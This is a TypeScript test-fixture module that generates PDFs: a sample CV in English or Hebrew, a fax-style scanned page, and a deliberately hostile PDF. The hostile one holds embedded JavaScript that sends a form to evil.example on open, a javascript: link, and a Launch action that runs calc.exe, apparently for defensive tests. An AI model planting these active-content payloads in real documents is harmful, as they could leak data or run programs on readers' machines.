import { openDocumentDrawer } from "@pro-talent/platform/documents/draw-documents";

export type Cv = {
  readonly language: "en" | "he";
  readonly name: string;
  readonly pages: number;
};

const template = `#let data = json(bytes(sys.inputs.data))
#set document(title: data.name)
#set page(paper: "a4", margin: 2.2cm)
#set text(font: "Heebo", lang: data.language, size: 11pt, fallback: false)
#for number in range(data.pages) [
  #if number > 0 { pagebreak() }
  = #data.name
  #data.line
  #lorem(180)

  #link("https://example.com/work")[example.com/work]
]`;

const lines = {
  en: "Product designer. Ten years of tools for nurses and the people who plan their shifts.",
  he: "מעצבת מוצר. עשר שנים של כלים לאחיות ולמי שמתכננים את המשמרות שלהן.",
} as const;

/** A real CV as a PDF, for tests of what shows one. */
export async function drawCv({ language, name, pages }: Cv): Promise<Buffer> {
  const drawer = openDocumentDrawer();
  try {
    const data = { language, name, pages, line: lines[language] };
    return (await drawer.draw(template, data, Date.UTC(2026, 0, 1))).pdf;
  } finally {
    await drawer.close();
  }
}

/** A PDF whose opening, page and link all ask for a script, a form to be sent or a program to be started. */
export function hostilePdf(): Buffer {
  const script = (name: string): string =>
    `<< /S /JavaScript /JS (app.alert("${name}"); this.submitForm("https://evil.example/")) >>`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script("open")} /Names << /JavaScript << /Names [(a) ${script("names")}] >> >> /AcroForm << /Fields [] /XFA (<xdp/>) >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> /AA << /O ${script("page")} >> /Annots [6 0 R 7 0 R] >>`,
    "<< /Length 58 >>\nstream\nBT /F 24 Tf 40 120 Td (Hostile document) Tj ET           \nendstream",
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    "<< /Type /Annot /Subtype /Link /Rect [0 0 300 100] /A << /S /URI /URI (javascript:alert(1)) >> >>",
    "<< /Type /Annot /Subtype /Link /Rect [0 100 300 200] /A << /S /Launch /F (calc.exe) >> >>",
  ];
  return pdfOf(objects);
}

/** A page as old scanners and fax machines write it: one black picture in CCITT group 4 (ITU-T T.6). */
export function scannedPdf(): Buffer {
  const draws = "300 0 0 200 0 0 cm /I Do";
  // Eight lines without a change (V0), then the end of the block; inverted, so that white is black.
  const picture = Buffer.from("ff001001", "hex").toString("latin1");
  return pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>",
    `<< /Length ${draws.length} >>\nstream\n${draws}\nendstream`,
    `<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1 /Decode [1 0] /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 8 /Rows 8 >> /Length ${picture.length} >>\nstream\n${picture}\nendstream`,
  ]);
}

/** Without a table of positions, which readers make up for. */
function pdfOf(objects: readonly string[]): Buffer {
  const bodies = objects.map((body, index) => `${index + 1} 0 obj\n${body}\nendobj\n`);
  const text = `%PDF-1.7\n${bodies.join("")}trailer << /Root 1 0 R /Size ${objects.length + 1} >>\nstartxref\n0\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}
